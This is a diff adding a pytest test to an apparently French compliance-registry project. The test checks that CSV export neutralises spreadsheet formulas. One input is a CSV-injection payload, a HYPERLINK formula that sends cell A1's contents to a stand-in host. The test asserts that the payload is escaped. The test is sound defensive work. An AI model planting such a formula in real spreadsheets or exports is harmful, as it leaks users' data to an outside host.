@@ -575,3 +575,17 @@ def test_cli_export_to_stdout_and_file(seeded: Seeded, tmp_path: Path) -> None:
     assert pia.exit_code == 0 and json.loads(pia.stdout)["pia"]["name"]
     unknown = runner.invoke(_cli(), ["export", "annex-viii", "--ai-system", "Nope"], env=env)
     assert unknown.exit_code == 1
+
+
+def test_csv_cells_never_run_as_spreadsheet_formulas() -> None:
+    from registre.catalog.export_common import ExportFormat, csv_text
+
+    text = csv_text(
+        ["nom", "montant"],
+        [['=HYPERLINK("http://x/?"&A1,"Paie")', 12], ["+33 6 12", -3], ["Paie", None]],
+        ExportFormat.CSV_EXCEL,
+    )
+    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
+    assert rows[1][0] == "'=HYPERLINK(\"http://x/?\"&A1,\"Paie\")"
+    assert rows[2] == ["'+33 6 12", "-3"]  # numbers stay numbers
+    assert rows[3] == ["Paie", ""]
